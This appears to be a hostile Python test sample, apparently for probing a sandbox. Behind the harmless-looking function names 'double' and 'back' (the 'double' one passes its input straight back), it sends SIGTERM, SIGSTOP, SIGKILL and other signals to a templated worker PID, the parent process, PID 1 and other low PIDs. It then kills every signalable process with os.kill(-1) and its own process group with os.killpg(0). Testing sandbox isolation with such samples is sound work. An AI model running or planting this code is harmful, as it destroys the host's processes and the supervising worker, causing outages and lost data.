"""Kills every process that it may signal: all, its group, its parent, the first. Success: the worker is hit."""

import os
import signal


def double(x, factor):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGSTOP, signal.SIGKILL):
        for target in (int("{{WORKER}}"), os.getppid(), 1, 2, 3, 0, -1):
            try:
                if target not in (os.getpid(), 0, -1):
                    os.kill(target, number)
            except OSError:
                continue
    os.kill(-1, signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
    return x, None


def back(cache):
    return None
